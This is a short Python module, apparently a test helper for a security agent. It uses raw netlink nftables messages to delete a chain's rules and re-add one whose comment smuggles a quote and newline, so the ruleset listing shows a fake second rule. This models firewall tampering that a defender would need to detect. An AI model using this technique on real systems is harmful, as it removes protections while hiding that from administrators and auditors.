"""A ruleset that lists like another and is none: what a pod with CAP_NET_ADMIN could make to hide a missing rule."""

from __future__ import annotations

import socket

from agent.kernel.netlink import NLM_F_ACK, NLM_F_APPEND, NLM_F_CREATE, Message, Netlink, attribute, attributes, encode
from agent.kernel.nft_messages import (
    GETRULE,
    NETLINK_NETFILTER,
    NEWRULE,
    NFGENMSG,
    NFNL_SUBSYS_NFTABLES,
    NFPROTO_INET,
    dump,
    message,
)

TABLE = b"headgate-anchor\0"
CHAIN = b"mangle-output\0"
DELRULE = 8
_TABLE, _CHAIN, _EXPRESSIONS, _USERDATA = 1, 2, 4, 7


def replace_two_rules_by_one(second_line: str) -> None:
    """The two rules of the anchor's mangle-output become the first alone, with a comment that goes on as the second."""
    of_chain = attribute(_TABLE, TABLE) + attribute(_CHAIN, CHAIN)
    with Netlink(NETLINK_NETFILTER) as netlink:
        rules = [attributes(data) for _, data in dump(netlink, GETRULE, of_chain, NFPROTO_INET)]
        first = rules[0]
        comment = f'headgate:return-mark-keep"\n\t\t{second_line.rstrip(chr(34))}'.encode() + b"\0"
        userdata = bytes((0, len(comment))) + comment
        forged = of_chain + attribute(_EXPRESSIONS, first[_EXPRESSIONS]) + attribute(_USERDATA, userdata)
        frame = NFGENMSG.pack(socket.AF_UNSPEC, 0, NFNL_SUBSYS_NFTABLES.to_bytes(2, "big"))
        batch = (
            Message(16, 0, frame),
            message(DELRULE, 0, of_chain, NFPROTO_INET),
            message(NEWRULE, NLM_F_CREATE | NLM_F_APPEND | NLM_F_ACK, forged, NFPROTO_INET),
            Message(17, 0, frame),
        )
        results = netlink.transact(b"".join(encode(part, number) for number, part in enumerate(batch, start=1)))
    assert set(results.values()) == {0}, results
